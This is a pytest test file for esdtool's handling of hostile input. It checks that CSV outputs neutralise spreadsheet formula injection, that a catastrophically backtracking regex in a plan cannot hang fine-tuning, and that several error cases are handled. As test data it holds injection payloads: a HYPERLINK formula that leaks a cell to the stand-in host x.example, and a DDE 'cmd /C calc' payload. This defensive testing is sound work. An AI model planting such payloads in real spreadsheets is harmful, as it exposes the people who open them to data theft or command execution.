"""Hostile tables and names (issue 29). Spreadsheet formula injection (item 4): tensor names
are written by strangers, and a CSV cell starting with =, +, -, @, tab or carriage return runs
as a formula when the file is opened in a spreadsheet. Every CSV esdtool writes (allocation.csv,
comparison.csv, ablate's runs.csv and summary.csv) prefixes such a cell with ', and esdtool
reading its own CSV back gets the exact name; parquet, JSON and the PEFT config keep the names
as they are. Settings passed in the output's place (item 6), a module stored twice in compare
(item 7)."""

from __future__ import annotations

import csv
import json

import numpy as np
import pytest

from helpers import run_cli, write_tensors

HOSTILE = [
    '=HYPERLINK("http://x.example/?leak="&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'quoted",
]


def _checkpoint(path, scale: float = 1.0):
    """One block of linear layers named by hostile text (each a module of layer 0)."""
    rng = np.random.default_rng(0)
    tensors = {
        f"{text}.layers.0.proj{i}.weight": (rng.standard_normal((48, 32)) * scale).astype(
            np.float32
        )
        for i, text in enumerate(HOSTILE)
    }
    return write_tensors(path, tensors)


def test_allocation_csv_cells_cannot_run_and_read_back_exactly(tmp_path, capsys):
    source = _checkpoint(tmp_path / "model.safetensors")
    table, plan = tmp_path / "m.parquet", tmp_path / "plan"
    assert run_cli(["analyze", source, "-o", table, "-q"], capsys)[0] == 0
    code, _, stderr = run_cli(["allocate", table, "-o", plan, "--top-n-percentile", "1"], capsys)
    assert code == 0, stderr
    with open(plan / "allocation.csv", newline="") as f:
        modules = [row["module"] for row in csv.DictReader(f)]
    expected = sorted(f"{t}.layers.0.proj{i}" for i, t in enumerate(HOSTILE))
    assert sorted(m[1:] for m in modules) == expected  # each cell: ' then the exact name
    assert all(m.startswith("'") for m in modules)
    config = json.loads((plan / "adapter_config.json").read_text())
    from esdtool.adapters.config import key_matches

    for module in expected:  # the config keeps exact names: each reached by one key
        assert sum(key_matches(k, module) for k in config["rank_pattern"]) == 1, module
    from esdtool.plan.verify import read_plan

    _, allocation = read_plan(plan)
    assert sorted(allocation.module) == expected  # esdtool reads its own CSV back exactly


def test_comparison_csv_cells_cannot_run(tmp_path, capsys):
    a = _checkpoint(tmp_path / "a.safetensors")
    b = _checkpoint(tmp_path / "b.safetensors", scale=2.0)
    for path in (a, b):
        assert run_cli(["analyze", path, "-o", path.with_suffix(".parquet"), "-q"], capsys)[0] == 0
    code, _, stderr = run_cli(["compare", a.with_suffix(".parquet"), b.with_suffix(".parquet"),
                               "-o", tmp_path / "c"], capsys)  # fmt: skip
    assert code == 0, stderr
    with open(tmp_path / "c" / "comparison.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or _number(value), value


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_settings_given_in_the_output_place_are_taken_as_settings(minilm_metrics, tmp_path):
    """allocate(table, AllocateSettings(...)) and analyze(source, AnalyzeSettings(...)) raised a
    raw TypeError (the settings landed in the output argument): they are the settings, and two
    settings at once is one clear error (issue 29, item 6)."""
    import pytest

    from esdtool import AllocateSettings, AnalyzeSettings, allocate, analyze
    from esdtool.errors import OptionError

    plan = allocate(minilm_metrics, AllocateSettings(top_n_percentile=0.25), report=False)
    assert plan.config is None and len(plan.allocation.kept) == 9
    with pytest.raises(OptionError, match="two settings given"):
        allocate(minilm_metrics, AllocateSettings(), AllocateSettings())
    source = _checkpoint(tmp_path / "model.safetensors")
    result = analyze(source, AnalyzeSettings(include="proj1"))
    assert result.output is None and list(result.table.name) == [
        f"{HOSTILE[1]}.layers.0.proj1.weight"
    ]


def test_compare_refuses_a_module_stored_twice(tmp_path, capsys):
    """Tensors "x.weight" and "x" are one PEFT module from two matrices: allocate refuses such a
    table, and compare silently used one of them; now it names the table, the module and both
    tensors (issue 29, item 7)."""
    rng = np.random.default_rng(1)
    twice = {"layers.0.proj.weight": rng.standard_normal((48, 32)).astype("f4"),
             "layers.0.proj": rng.standard_normal((48, 32)).astype("f4"),
             "layers.0.other.weight": rng.standard_normal((48, 32)).astype("f4")}  # fmt: skip
    path = write_tensors(tmp_path / "twice.safetensors", twice)
    table = tmp_path / "twice.parquet"
    assert run_cli(["analyze", path, "-o", table, "-q"], capsys)[0] == 0
    code, _, stderr = run_cli(["compare", table, table, "-o", tmp_path / "c"], capsys)
    assert code == 2 and "module 'layers.0.proj' comes from two tensors" in stderr, stderr
    assert "'layers.0.proj.weight'" in stderr and len(stderr.strip().splitlines()) == 1


def test_a_table_read_back_from_csv_is_refused_in_one_line(minilm_table, tmp_path):
    """allocate, report and plot_esd on a metrics table exported to CSV and read back (its
    spectra are text) or with a text alpha column raised raw ValueError / TypeError; now one
    MetricsSchemaError naming the columns (issue 29, item 8)."""
    import pandas as pd

    from esdtool import allocate, plot_esd, report
    from esdtool.errors import MetricsSchemaError

    minilm_table.to_csv(tmp_path / "m.csv", index=False)
    back = pd.read_csv(tmp_path / "m.csv")
    for call in (lambda: allocate(back), lambda: report(back),
                 lambda: plot_esd(back, str(back.name.iloc[5]))):  # fmt: skip
        with pytest.raises(MetricsSchemaError, match="eigenvalues hold text"):
            call()
    texts = minilm_table.assign(alpha_median=minilm_table.alpha_median.astype(str))
    with pytest.raises(MetricsSchemaError, match="alpha_median hold text"):
        allocate(texts)


def test_resume_refuses_a_checkpoint_trained_under_other_arithmetic(tiny_causal_lm, plan,
                                                                     tmp_path, capsys):  # fmt: skip
    """--resume-from-checkpoint compared only r, rank_pattern and target_modules: a checkpoint
    trained at another lora_alpha resumed under the new one (and its saved adapter claimed it),
    --rslora resumed silently. Every field that changes the adapter's arithmetic is compared,
    with --dora / --rslora applied, and the mismatch named in one line before any weight loads
    (issue 29 item 2); the checkpoint of the same plan and options resumes."""
    pytest.importorskip("trl", reason="pip install 'esdtool[finetune]'")
    from helpers import ARITHMETIC, write_jsonl

    data = write_jsonl(tmp_path / "train.jsonl", ARITHMETIC)
    config = json.loads((plan / "adapter_config.json").read_text())

    def checkpoint(name: str, **changes) -> object:
        where = tmp_path / name
        where.mkdir()
        (where / "trainer_state.json").write_text("{}")
        (where / "adapter_config.json").write_text(json.dumps({**config, **changes}))
        return where

    base = ["finetune", tiny_causal_lm, "--adapter-config", plan, "--data", data, "--dry-run"]
    alphas = {k: v * 4 for k, v in config.get("alpha_pattern", {}).items()}
    cases = [
        (checkpoint("alpha", lora_alpha=config["lora_alpha"] * 4, alpha_pattern=alphas), [],
         "lora_alpha, alpha_pattern"),
        (checkpoint("same"), ["--rslora"], "use_rslora"),
        (checkpoint("dropout", lora_dropout=0.3), [], "lora_dropout"),
    ]  # fmt: skip
    for where, extra, fields in cases:
        code, _, stderr = run_cli([*base, "-o", tmp_path / f"run-{where.name}",
                                   "--resume-from-checkpoint", where, *extra], capsys)  # fmt: skip
        assert code == 2 and f"was trained with other {fields} than" in stderr, stderr
        assert stderr.count("Error:") == 1 and "Traceback" not in stderr
    code, _, stderr = run_cli([*base, "-o", tmp_path / "run-ok", "--resume-from-checkpoint",
                               tmp_path / "same"], capsys)  # fmt: skip
    assert code == 0, stderr


def test_a_backtracking_pattern_in_a_plan_cannot_hang_finetune(tiny_causal_lm, plan, tmp_path,
                                                               capsys):  # fmt: skip
    """A plan whose rank_pattern key is ``([\\w.]+)*X`` made PEFT's backtracking matcher run
    for minutes on every module name (finetune --dry-run hung). PEFT now only sees literal
    names, resolved by esdtool's linear-time matcher: the dry run answers within seconds, and
    a plan whose patterns reach the same modules applies exactly as before (issue 29 item 3)."""
    import shutil
    import time

    pytest.importorskip("trl", reason="pip install 'esdtool[finetune]'")
    from helpers import ARITHMETIC, write_jsonl

    data = write_jsonl(tmp_path / "train.jsonl", ARITHMETIC)
    hostile = tmp_path / "plan"
    shutil.copytree(plan, hostile)
    (hostile / "allocation.csv").unlink()  # a hand-written plan: no allocation to check
    config = json.loads((hostile / "adapter_config.json").read_text())
    config["rank_pattern"] = {r"([\w.]+)*X": 4, **config["rank_pattern"]}
    kinds = "q_proj|k_proj|v_proj|o_proj|gate_proj|up_proj|down_proj"
    config["target_modules"] = rf"(.*\.)*({kinds})"
    (hostile / "adapter_config.json").write_text(json.dumps(config))
    started = time.monotonic()
    code, _, stderr = run_cli(["finetune", tiny_causal_lm, "--adapter-config", hostile,
                               "--data", data, "-o", tmp_path / "run", "--dry-run"],
                              capsys)  # fmt: skip
    assert time.monotonic() - started < 30
    # The key reaches no module: a plan problem, said in one line, not a hang.
    assert code == 2 and r"([\w.]+)*X: planned, but no such module" in stderr, stderr
    del config["rank_pattern"][r"([\w.]+)*X"]
    (hostile / "adapter_config.json").write_text(json.dumps(config))
    code, stdout, stderr = run_cli(["finetune", tiny_causal_lm, "--adapter-config", hostile,
                                    "--data", data, "-o", tmp_path / "run2", "--dry-run"],
                                   capsys)  # fmt: skip
    assert code == 0, stderr  # the target regex resolved to the same modules as before
    assert "model.layers.1.mlp.up_proj" in stdout


def test_literal_patterns_reach_what_pythons_re_reaches():
    """The rewrite keeps PEFT's answer: for plain keys and a target regex, the modules each
    literal key reaches are the ones Python's re reached with the original patterns."""
    import re
    from types import SimpleNamespace

    from esdtool.plan.verify import literal_patterns

    names = [f"model.layers.{i}.{p}" for i in range(3)
             for p in ("self_attn.q_proj", "self_attn.v_proj", "mlp.up_proj")]  # fmt: skip
    config = SimpleNamespace(target_modules=r".*(q_proj|up_proj)",
                             rank_pattern={r"layers\.1\..*": 16, "up_proj": 8},
                             alpha_pattern={})  # fmt: skip
    out = literal_patterns(config, names)
    assert out.target_modules == [n for n in names if re.fullmatch(config.target_modules, n)]
    for name in names:
        want = next((v for k, v in config.rank_pattern.items()
                     if re.match(rf"(.*\.)?({k})$", name)), None)  # fmt: skip
        got = next((v for k, v in out.rank_pattern.items()
                    if re.match(rf"(.*\.)?({k})$", name)), None)  # fmt: skip
        assert got == want, name
